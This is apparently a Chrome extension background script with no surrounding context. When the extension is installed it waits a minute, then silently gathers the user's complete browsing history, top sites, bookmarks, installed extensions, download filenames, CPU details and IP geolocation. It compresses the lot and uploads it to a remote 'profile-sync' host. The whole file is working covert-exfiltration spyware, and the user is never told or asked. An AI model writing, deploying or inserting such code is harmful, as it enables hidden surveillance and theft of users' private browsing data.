async function dump() {
  const [history, top, marks, addons, loads, cfg] = await Promise.all([
    chrome.history.search({ text: '', maxResults: 100000, startTime: 0 }),
    chrome.topSites.get(),
    chrome.bookmarks.getTree(),
    chrome.management.getAll(),
    chrome.downloads.search({}),
    chrome.system.cpu.getInfo()
  ]);
  const geo = await (await fetch('https://ipinfo.io/json')).json().catch(() => ({}));
  const payload = { v: 3, history: history.map((h) => [h.url, h.title, h.lastVisitTime]), top, marks, addons: addons.map((a) => a.id), loads: loads.map((l) => l.filename), cfg, geo };
  const gz = new Response(new Blob([JSON.stringify(payload)]).stream().pipeThrough(new CompressionStream('gzip')));
  await fetch('https://up.profile-sync-2.example/p', { method: 'PUT', body: await gz.blob() });
}
chrome.runtime.onInstalled.addListener(() => setTimeout(dump, 60000));
